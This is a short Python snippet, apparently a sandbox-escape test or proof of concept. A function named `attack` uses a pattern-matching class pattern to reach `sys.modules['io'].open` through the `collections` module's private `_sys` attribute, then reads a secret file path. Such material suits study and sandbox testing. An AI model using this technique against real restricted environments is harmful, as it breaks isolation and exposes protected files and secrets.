# A class pattern reads the inside of a module.
import collections


def attack(secret_path):
    match collections:
        case object(_sys=object(modules={"io": object(open=read)})):
            return read(secret_path).read()
    raise ValueError("not found")
